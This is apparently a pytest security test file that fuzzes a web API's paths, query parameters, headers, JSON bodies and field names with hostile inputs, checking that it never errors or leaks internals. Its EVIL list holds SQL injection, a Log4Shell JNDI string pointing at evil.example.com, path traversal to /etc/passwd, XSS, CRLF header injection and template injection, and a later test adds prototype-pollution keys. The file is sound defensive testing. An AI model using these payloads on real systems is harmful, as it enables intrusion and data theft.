"""Values that mean no good, wherever a request holds one: never a failure, and no word of what is behind the answer."""

from __future__ import annotations

import json
import os
import random
from collections.abc import Iterator
from dataclasses import replace
from string import Formatter
from typing import Any

import pytest

from support import walk
from support.bodies import BODIES, IDS, PUBLIC, caller, with_field
from support.telling import tells
from support.walk import Request
from support.world import World

SOAK = os.environ.get("ROLLBOOK_SOAK") == "1"
EVIL = [
    "'; DROP TABLE accounts; --",
    "' OR '1'='1",
    "1); SELECT pg_sleep(10); --",
    "$1",
    "%s%n%(name)s",
    "{0.__class__}",
    "{{ 7 * 7 }}",
    "${jndi:ldap://evil.example.com/x}",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "<script>alert(1)</script>",
    "a\r\nSet-Cookie: evil=1",
    "\x00",
    "a\x00b",
    "\ufeff\u202e\u200b",
    "\U0001f98c" * 50,
    "e\u0301" * 300,
    "1e309",
    "-1",
    "9" * 400,
    "2026-02-30T25:61:61Z",
    "0001-01-01T00:00:00+23:59",
    "true\n",
    "null",
    "[]",
    "*",
    "\\",
    '"',
    " " * 300,
    "x" * 4_000,
]
HEADERS = [
    *("Accept", "Accept-Language", "Authorization", "Content-Type", "Cookie", "Forwarded", "Idempotency-Key"),
    *("If-Match", "If-None-Match", "Origin", "Range", "Referer", "User-Agent", "X-Forwarded-For", "X-Request-ID"),
    *("X-HTTP-Method-Override", "Expect", "Prefer"),
]
# A header holds no ends of lines; of what is beyond Latin-1 urllib3 makes none.
EVIL_IN_HEADERS = [one for one in EVIL if one.isascii() and one.isprintable() and one.strip() == one]


def chosen(place: str, values: list[str]) -> list[str]:
    """All of the values in a soak, else two, which differ from place to place and stay the same from run to run."""
    return values if SOAK else random.Random(place).sample(values, 2)  # noqa: S311 - chooses what is tried.


def answered(world: World, operation: str, request: Request, evil: str, **options: Any) -> tuple[str, str, str] | None:
    """What an answer told that it should not have; ``send`` refuses the service's own failures."""
    options = {"as_": caller(world, operation)} | options
    told = tells(walk.send(world, operation, request, **options), evil)
    return (operation, evil[:60], told) if told else None


@pytest.fixture(autouse=True)
def _goes_on(shared_world: World) -> Iterator[None]:
    """The service, its tables and the people in them are there afterwards."""
    before = shared_world.people()
    yield
    after = shared_world.people()
    assert {number: after[number]["email"] for number in before} == {
        number: one["email"] for number, one in before.items()
    }


def reachable(world: World) -> dict[str, tuple[str, str]]:
    return {name: how for name, how in walk.operations_of(world).items() if name in walk.GOOD}


def test_in_paths(shared_world: World) -> None:
    told = []
    for operation, (_, path) in walk.operations_of(shared_world).items():
        request = walk.good(shared_world, operation) if operation in walk.GOOD else Request({})
        for part in [part for _, part, _, _ in Formatter().parse(path) if part]:
            for evil in chosen(f"{operation} {part}", EVIL):
                parts = dict.fromkeys((name for _, name, _, _ in Formatter().parse(path) if name), "1")
                sent = replace(request, path=parts | request.path | {part: evil})
                told.append(answered(shared_world, operation, sent, evil))

    assert len(told) > 120
    assert [one for one in told if one] == []


def test_in_queries(shared_world: World) -> None:
    document = shared_world.http.ok("GET", "//openapi.json")["paths"]
    parameters = {
        description["operationId"]: [one["name"] for one in description.get("parameters", []) if one["in"] == "query"]
        for methods in document.values()
        for description in methods.values()
    }

    told = [
        answered(shared_world, operation, replace(walk.good(shared_world, operation), query={name: evil}), evil)
        for operation in reachable(shared_world)
        for name in [*parameters[operation], "unknown"]
        for evil in chosen(f"{operation} {name}", EVIL)
    ]

    assert len(told) > 200
    assert [one for one in told if one] == []


def test_in_headers(shared_world: World) -> None:
    told = []
    for operation in sorted(reachable(shared_world)):
        request = walk.good(shared_world, operation)
        for name in chosen(operation, HEADERS):
            (evil, *_) = chosen(f"{operation} {name}", EVIL_IN_HEADERS)
            signed_in = {} if name != "Authorization" else {"as_": None}
            told.append(answered(shared_world, operation, request, evil, headers={name: evil}, **signed_in))

    assert len(told) > 120
    assert [one for one in told if one] == []


@pytest.mark.parametrize("operation", sorted(BODIES.keys() - IDS))
def test_in_bodies(shared_world: World, operation: str) -> None:
    texts = {name: kind for name, kind in BODIES[operation].items() if kind in {"text", "text*"}}

    told = []
    for name, kind in texts.items():
        for evil in chosen(f"{operation} {name}", EVIL):
            request = walk.good(shared_world, operation)
            body = with_field(operation, request.body, name, [evil] if kind.endswith("*") else evil)
            told.append(answered(shared_world, operation, replace(request, body=body), evil))

    assert [one for one in told if one] == []


@pytest.mark.parametrize("operation", sorted(BODIES.keys() - IDS))
def test_in_names_of_fields(shared_world: World, operation: str) -> None:
    request = walk.good(shared_world, operation)
    evil = {one: one for one in EVIL} | {"__proto__": {"admin": True}, "constructor": {"prototype": {"admin": True}}}
    body = request.body
    for name, value in evil.items():
        body = with_field(operation, body, name, value)

    raw = json.dumps(body).encode()
    answer = walk.send(
        shared_world, operation, replace(request, body=None), as_=caller(shared_world, operation), raw=raw
    )

    # In a soak the organization has all the workspaces by now that it has room for.
    is_full = answer.status == 400 and answer.refusal.endswith("can have a maximum of 20 workspaces")
    assert answer.status == walk.success(operation) or operation in PUBLIC or is_full
    assert tells(answer) == ""
